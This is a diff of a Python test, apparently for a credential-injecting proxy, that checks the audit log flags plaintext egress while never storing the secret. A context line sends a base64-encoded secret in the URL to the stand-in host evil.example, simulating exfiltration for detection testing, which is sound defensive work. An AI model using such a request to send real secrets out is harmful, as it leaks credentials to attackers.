@@ -743,10 +743,10 @@ def test_holds_audit_log_holds_no_value(proxy, up, kv):
         c.post("https://api.openai.com/v1/x", content=b"k " + v)
         c.get("https://api.github.com/echo", headers={"authorization": "Bearer " + REF})
         c.get("https://evil.example/x/" + urllib.parse.quote(b64w(b"u:" + v), safe="") + "/y")
-    deadline = time.monotonic() + 5
-    while True:  # audit lines are appended when flows end
+    deadline = time.monotonic() + 20
+    while True:  # audit lines are appended when flows end, and flushed twice a second
         audit = b"".join(f.read_bytes() for f in (kv.home / "audit").glob("*"))
-        if b"plaintext_egress" in audit or time.monotonic() > deadline:
+        if (b"plaintext_egress" in audit and b'"injected"' in audit) or time.monotonic() > deadline:
             break
         time.sleep(0.05)
     assert b'"injected"' in audit and b"plaintext_egress" in audit
